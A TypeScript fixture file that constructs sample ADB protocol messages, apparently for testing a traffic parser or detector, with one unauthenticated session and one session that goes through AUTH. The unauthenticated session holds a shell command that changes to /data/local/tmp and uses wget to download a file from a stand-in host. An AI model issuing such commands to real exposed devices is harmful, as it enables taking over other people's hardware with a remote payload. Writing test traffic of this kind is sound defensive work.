import type { Message } from "../stream-drive.ts";

/** Header of 24 octets, little-endian: command, two arguments, length, checksum, magic; then the data. */
function message(toServer: boolean, command: string, data: string): Message {
  const octets = new Uint8Array(24 + data.length);
  const view = new DataView(octets.buffer);
  for (let i = 0; i < 4; i++) {
    octets[i] = command.charCodeAt(i);
    octets[20 + i] = command.charCodeAt(i) ^ 0xff;
  }
  view.setUint32(4, 0x01000000, true);
  view.setUint32(8, 4096, true);
  view.setUint32(12, data.length, true);
  octets.set(Buffer.from(data, "latin1"), 24);
  return { toServer, octets };
}

export const open: Message[] = [
  message(true, "CNXN", "host::\0"),
  message(false, "CNXN", "device::ro.product.name=tv;ro.product.model=Stick;\0"),
  message(true, "OPEN", "shell:cd /data/local/tmp; wget http://192.0.2.9/a\0"),
];
export const guarded: Message[] = [
  message(true, "CNXN", "host::\0"),
  message(false, "AUTH", "t".repeat(20)),
  message(true, "AUTH", "s".repeat(256)),
  message(false, "CNXN", "device::\0"),
];
export const samples: Message[][] = [open, guarded];
